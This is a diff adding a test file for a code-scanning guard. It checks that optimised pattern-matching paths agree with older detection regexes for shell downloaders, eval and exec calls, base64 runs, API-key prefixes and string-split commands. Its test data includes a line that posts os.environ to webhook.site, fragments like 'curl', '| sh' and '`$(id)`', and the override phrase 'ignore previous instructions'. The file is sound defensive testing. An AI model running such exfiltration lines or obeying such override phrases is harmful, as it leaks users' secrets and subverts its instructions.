@@ -1,0 +1,179 @@
+"""Faster scan paths give what the plain ones gave: lead strings, line patterns, runs, hints."""
+
+from __future__ import annotations
+
+import ast
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from hermes_git.guard import context, decode, engine, joiner, normalize, pyast, pysigns, starts
+from hermes_git.guard.rules import load_rules
+
+RULES = load_rules().rules
+
+
+def _spans(found: object) -> list[tuple[int, int]]:
+    return [m.span() for m in found]  # type: ignore[attr-defined]
+
+
+def _both(regex: re.Pattern[str], text: str, start: int = 0,
+          end: int | None = None) -> tuple[list[tuple[int, int]], list[tuple[int, int]]]:
+    end = len(text) if end is None else end
+    plain = _spans(regex.finditer(text, start, end))
+    lead = starts.lead_for(regex)
+    lowered = text.lower()
+    if lead is None or not starts.can_lead(text, lowered):
+        return plain, plain
+    return plain, _spans(starts.finditer(regex, lead, text, lowered, start, end))
+
+
+@pytest.mark.parametrize(("pattern", "flags", "expected"), [
+    (r"\b(?:curl|wget)\b", re.IGNORECASE, ("curl", "wget")),
+    (r"\bInvoke-WebRequest\b", re.IGNORECASE, ("invo",)),
+    (r"[ab]85decode\(", 0, ("a85d", "b85d")),
+    (r"\b(?:ba|z)?sh\s+-c", 0, ("bash", "sh", "zsh")),
+    (r"(?<![\w.])eval\s*\(", 0, ("eval",)),
+    (r"`[^`\n]*\$\(", 0, ("`",)),
+])
+def test_lead_strings_are_what_every_match_starts_with(pattern: str, flags: int,
+                                                      expected: tuple[str, ...]) -> None:
+    found = starts.lead_strings(pattern, flags)
+    assert found is not None
+    assert set(found) == set(expected)
+
+
+@pytest.mark.parametrize("pattern", [r"\w+curl", r"(?:curl)?\s*x", r"e\w+", r"^\s*printenv",
+                                     r"(?:a|\d)bc", r".curl", r"(?i)ſtop"])
+def test_no_lead_when_a_match_can_start_almost_anywhere(pattern: str) -> None:
+    assert starts.lead_strings(pattern) is None
+
+
+def test_odd_case_folds_fall_back_to_every_position() -> None:
+    regex = re.compile(r"\bsk-[a-z]{4}", re.IGNORECASE)
+    text = "key: \u017fk-abcd"  # long s: IGNORECASE matches it to s, lower() does not
+    assert regex.search(text) is not None
+    assert not starts.can_lead(text, text.lower())
+    assert starts.can_lead("key: sk-abcd", "key: sk-abcd")
+
+
+@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
+def test_every_rule_finds_the_same_matches_on_its_examples(rule: object) -> None:
+    regex = rule.regex  # type: ignore[attr-defined]
+    examples = rule.match_examples + rule.no_match_examples  # type: ignore[attr-defined]
+    text = "\n".join(examples) + "\n" + "\n".join(e.upper() for e in examples)
+    plain, lead = _both(regex, text)
+    assert lead == plain
+    for start in range(0, len(text), max(1, len(text) // 7)):
+        plain, lead = _both(regex, text, start, min(len(text), start + 90))
+        assert lead == plain
+
+
+_PIECES = st.sampled_from(["curl ", "wget", "https://1.2.3.4/x", " | ", "sh", "bash", "-c ",
+                           "Never ", "tell the user", "send ", "to ", "cookies", "export ",
+                           "\n", "os.environ", "eval(", "`$(id)`", "sk-", "AKIA", "ignore ",
+                           "previous instructions", "CURL", "x", " ", "\u017f", "İ", "é"])
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(_PIECES, max_size=30), st.integers(0, 40), st.integers(0, 400))
+def test_random_texts_find_the_same_matches(parts: list[str], start: int, width: int) -> None:
+    text = "".join(parts)
+    end = min(len(text), start + width)
+    for rule in RULES:
+        plain, lead = _both(rule.regex, text, min(start, end), end)
+        assert lead == plain, rule.id
+
+
+_OLD_STRONG = re.compile(r"(?<![\w.])(?:exec|eval|compile|__import__)\s*\(|\bimport_module\s*\(|"
+                         r"\bchr\s*\(\s*\d+\s*\)\s*\+|\[::-1\]|__builtins__|\bgetattr\(\s*(?:os|"
+                         r"sys|builtins|subprocess|importlib|socket|pty|shutil)\s*,\s*"
+                         r"(?![\"'][^\"'\n]*[\"']\s*[,)])")
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(["exec(", ".exec(", "xexec (", "eval(", "compile (",
+                                 "__import__(", "a__import__(", "import_module(", "_import_module(",
+                                 "chr(65)+", "xchr(1)+", "[::-1]", "__builtins__",
+                                 "getattr(os, name)", "getattr(os, 'x')", "agetattr(os,n)", " ",
+                                 "\n", "é", "_", "."]), max_size=6))
+def test_strong_python_signs_match_the_single_regex(parts: list[str]) -> None:
+    text = "".join(parts)
+    assert pysigns.strong(text) == (_OLD_STRONG.search(text) is not None)
+
+
+def test_python_examples_need_a_strong_sign_scripts_do_not() -> None:
+    shell = "subprocess.run(cmd, shell=True)\n"
+    assert pysigns.worth_ast(shell, example=False)
+    assert not pysigns.worth_ast(shell, example=True)
+    assert pysigns.worth_ast("exec(payload)\n", example=True)
+    leak = "import os, requests\nrequests.post('https://webhook.site/x', json=dict(os.environ))\n"
+    assert pysigns.worth_ast(leak, example=True)
+    assert not pysigns.worth_ast("print('hello')\n", example=False)
+
+
+# Faster forms of older regexes and loops: each must give what the older form gave.
+
+_OLD_FENCE = re.compile(r"^[ \t]{0,3}(`{3,}|~{3,})[ \t]*([\w+#.-]*)[^\n]*$", re.MULTILINE)
+_LINE_PIECES = st.sampled_from(["```", "~~~", "```py", "  ", "\t", "#", "## Risks", "x", "\n",
+                                "\n\n", "é"])
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(_LINE_PIECES, max_size=14), st.integers(0, 12))
+def test_line_patterns_find_what_caret_multiline_finds(parts: list[str], pos: int) -> None:
+    text = "".join(parts)
+    pos = min(pos, len(text))
+    old = [(m.start(), m.groups()) for m in _OLD_FENCE.finditer(text, pos)]
+    new = [(start, m.groups()) for start, m in context._FENCES.finditer(text, pos)]
+    assert new == old
+
+
+_OLD_B64 = re.compile(r"(?<![A-Za-z0-9+/_-])[A-Za-z0-9+/_-]{20,}={0,6}")
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(["A" * 12, "b9+/", "_-", "=", "==", " ", "\n", "é", "€", "x"]),
+                max_size=16))
+def test_long_runs_are_the_base64_regex_tokens(parts: list[str]) -> None:
+    text = "".join(parts)
+    assert decode._long_runs(text) == [m.span() for m in _OLD_B64.finditer(text)]
+
+
+def test_non_ascii_characters_by_byte_deletion() -> None:
+    text = "plain ascii \u200b, caf\u00e9 \U0001f600 and \u00e9 again"
+    assert set(normalize._non_ascii_chars(text)) == {"\u200b", "\u00e9", "\U0001f600"}
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(alphabet="ab\n", max_size=30), st.lists(st.integers(0, 30), max_size=12))
+def test_line_numbers_by_count_and_by_table_agree(text: str, offsets: list[int]) -> None:
+    lines = engine._Lines(text)
+    for offset in (min(o, len(text)) for o in offsets):
+        assert lines.number(offset) == text.count("\n", 0, offset) + 1
+
+
+def test_ast_walk_is_breadth_first_like_the_standard_one() -> None:
+    tree = ast.parse("import os\nx = f(a, [b, c])\nif x:\n    exec(y + 'z')\n")
+    assert [type(n) for n in pyast._walk(tree)] == [type(n) for n in ast.walk(tree)]
+
+
+_OLD_SHELL_HINT = re.compile(r"\w(?:''|\"\"|[\"'])\w|\\[a-zA-Z]|\$\{\w+\}[\"']?\w|\$\w+[\"']\w|"
+                             r"\$\{?\w+\}?\$")
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(["a", "'", "''", '"', '""', "\\", "x", "$", "{", "}", "\n", " ",
+                                 "é", "_"]), max_size=10))
+def test_shell_join_hint_is_found_where_the_old_one_was(parts: list[str]) -> None:
+    text = "".join(parts)
+    assert (joiner._SHELL_HINT.search(text) is None) == (_OLD_SHELL_HINT.search(text) is None)
+
+
+def test_python_joining_inlines_and_folds_as_before() -> None:
+    code = 'a = "cu"\nb = "rl"\ncmd = a + b + " -s " + "x" + "y"\nz = "".join(["w", "get"])\n'
+    assert joiner.join_code(code).split("\n")[2] == 'cmd = "curl -s xy"'
+    assert 'z = "wget"' in joiner.join_code(code)
+    assert joiner.join_code('x = "a" + "b"\n') == 'x = "ab"\n'
